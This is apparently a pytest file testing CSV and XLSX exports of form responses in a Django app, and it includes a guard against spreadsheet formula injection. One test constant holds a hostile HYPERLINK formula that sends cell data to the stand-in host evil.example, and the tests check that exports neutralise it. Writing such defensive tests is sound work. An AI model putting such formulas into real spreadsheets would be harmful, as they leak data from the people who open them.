"""Exports of the processing lists: CSV (streamed, UTF-8 with BOM, comma or semicolon) and
XLSX (typed cells), the chosen columns, the guard against formula injection, the access log."""

from __future__ import annotations

import csv
import io
from datetime import date, datetime

import pytest
from django.urls import reverse
from lutetia_forms import exports, listing
from lutetia_forms.models import Response
from openpyxl import load_workbook
from responses_samples import at, submitted

from lutetia.audit.models import AuditEntry
from lutetia.testing.pytest_plugin import in_site_language

#: the fixtures shared with the other processing tests (processor, processing_form, ...)
pytest_plugins = ["responses_fixtures"]

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def csv_of(answer, delimiter=",") -> list[list[str]]:
    body = b"".join(answer.streaming_content)
    assert body.startswith("\ufeff".encode()), "a byte-order mark, for Excel"
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig")), delimiter=delimiter))


def labels(columns) -> list[str]:
    """Column titles as an export made in the back office has them (the site's language)."""
    return in_site_language(lambda: [str(column.label) for column in columns])


def export_url(form=None) -> str:
    return reverse("forms_admin:export", args=[form.pk] if form else [])


# --- the guard ---------------------------------------------------------------------------------


@pytest.mark.parametrize("text", ["=1+1", "+33 1 23 45 67 89", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
def test_a_text_a_spreadsheet_would_run_gets_an_apostrophe(text):
    assert exports.neutralised(text) == "'" + text


@pytest.mark.parametrize("value", ["Camille", "a=b", "", 42, -3, 1.5, date(2026, 1, 2), None])
def test_anything_else_is_left_alone(value):
    assert exports.neutralised(value) == value


# --- CSV ---------------------------------------------------------------------------------------


def test_a_forms_csv_has_every_question_and_guards_formulas(client, processing_form, processor):
    response = submitted(
        processing_form,
        answers={"name": HOSTILE, "kind": "concert", "equipment": ["stage", "éclairage"]},
        state="received",
        state_label="Received",
        submitted_at=at(2026, 3, 10, 14, 5),
    )
    client.force_login(processor)
    answer = client.get(export_url(processing_form), {"format": "csv"})
    assert answer.status_code == 200 and answer.streaming
    assert answer["Content-Type"] == "text/csv; charset=utf-8"
    assert answer["Content-Disposition"].startswith('attachment; filename="street-events-')
    header, row = csv_of(answer)
    fixed = labels(listing.FORM_EXPORT_COLUMNS)
    assert header[:6] == fixed
    assert "Your age" in header and "Agent's note" in header  # every question, agents' too
    assert "We answer within ten days." not in header  # text on a page is no question
    cells = dict(zip(header, row, strict=True))
    reference, _citizen, _email, moment, state, _closed = fixed
    assert cells[reference] == response.reference
    assert cells["Your name"] == "'" + HOSTILE
    assert cells["Kind of event"] == "Concert"
    assert cells["Equipment needed"] == "Stage, Lighting"
    assert cells["Your age"] == "34"
    assert cells[moment] == "2026-03-10 14:05"
    assert cells["Day of the event"] == "2026-06-21"
    assert cells[state] == "Received"


def test_a_csv_for_french_excel_is_semicolon_separated(client, processing_form, processor):
    submitted(processing_form, answers={"name": "Martin; Camille"})
    client.force_login(processor)
    answer = client.get(export_url(processing_form), {"format": "csv-semicolon"})
    header, row = csv_of(answer, delimiter=";")
    assert dict(zip(header, row, strict=True))["Your name"] == "Martin; Camille"


def test_the_export_can_hold_only_the_lists_columns(client, processing_form, processor):
    submitted(processing_form)
    client.force_login(processor)
    answer = client.get(export_url(processing_form), {"format": "csv", "questions": "columns"})
    header, _row = csv_of(answer)
    assert header[6:] == ["Your name", "Kind of event", "Equipment needed"]


def test_the_export_holds_the_filtered_list_and_is_recorded(client, processing_form, processor):
    concert = submitted(processing_form, answers={"kind": "concert"})
    submitted(processing_form, answers={"kind": "market"})
    client.force_login(processor)
    answer = client.get(export_url(processing_form), {"format": "csv", "answer_kind": "concert"})
    rows = csv_of(answer)
    assert [row[0] for row in rows[1:]] == [concert.reference]
    entry = AuditEntry.objects.get(action="personal_data.export")
    assert entry.actor_id == str(processor.pk) and entry.outcome == "success"
    assert '"count":1' in entry.details and '"format":"csv"' in entry.details
    assert '"kind":"concert"' in entry.details


def test_an_export_across_forms_has_the_fixed_columns(client, form, processing_form, processor):
    submitted(form)
    submitted(processing_form)
    client.force_login(processor)
    header, *rows = csv_of(client.get(export_url(), {"format": "csv"}))
    assert header == labels(listing.ACROSS_EXPORT_COLUMNS)
    assert sorted(row[1] for row in rows) == ["Event permit", "Street events"]


def test_a_wrong_format_is_a_clear_400(client, processing_form, processor):
    client.force_login(processor)
    assert client.get(export_url(processing_form), {"format": "pdf"}).status_code == 400


def test_write_csv_needs_no_request(processing_form):
    """What bench/forms.py calls: a queryset, columns, a text stream."""
    for _n in range(3):
        submitted(processing_form)
    definition = listing.latest_definition(processing_form)
    columns = listing.export_columns(definition, form=True)
    out = io.StringIO()
    written = exports.write_csv(Response.objects.filter(form=processing_form), columns, out)
    assert written == 3
    lines = out.getvalue().splitlines()
    assert lines[0].startswith("\ufeffReference,") and len(lines) == 4


# --- XLSX --------------------------------------------------------------------------------------


def test_an_xlsx_export_has_typed_cells(client, processing_form, processor):
    submitted(
        processing_form,
        answers={"name": HOSTILE, "age": 34, "stalls": 12, "day": "2026-06-21"},
        submitted_at=at(2026, 3, 10, 14, 5),
    )
    client.force_login(processor)
    answer = client.get(export_url(processing_form), {"format": "xlsx"})
    assert answer.status_code == 200
    assert answer["Content-Type"] == exports_xlsx_type()
    assert answer["Content-Disposition"].startswith("attachment")
    assert answer["X-Content-Type-Options"] == "nosniff"
    sheet = load_workbook(io.BytesIO(b"".join(answer.streaming_content))).active
    header, row = list(sheet.iter_rows(values_only=True))
    cells = dict(zip(header, row, strict=True))
    assert cells["Your age"] == 34 and isinstance(cells["Your age"], int)
    assert cells["Number of stalls"] == 12
    assert cells["Day of the event"] == datetime(2026, 6, 21)  # a date cell, read back
    assert cells[labels([listing.SUBMITTED_AT])[0]] == datetime(2026, 3, 10, 14, 5)
    assert cells["Your name"] == "'" + HOSTILE
    # Read as written: text, never a formula.
    name_cell = next(c for c in list(sheet.iter_rows())[1] if c.value == "'" + HOSTILE)
    assert name_cell.data_type == "s"
    assert sheet.title == "Street events"


def test_write_xlsx_needs_no_request(processing_form, tmp_path):
    submitted(processing_form, answers={"age": 40})
    definition = listing.latest_definition(processing_form)
    columns = listing.export_columns(definition, form=True, every_question=False)
    path = tmp_path / "out.xlsx"
    written = exports.write_xlsx(Response.objects.all(), columns, str(path), title="A/B: [c]")
    assert written == 1
    workbook = load_workbook(path)
    assert workbook.active.title == "A B   c"
    assert workbook.active.max_row == 2


def exports_xlsx_type() -> str:
    from lutetia_forms.admin_responses import XLSX_TYPE

    return XLSX_TYPE
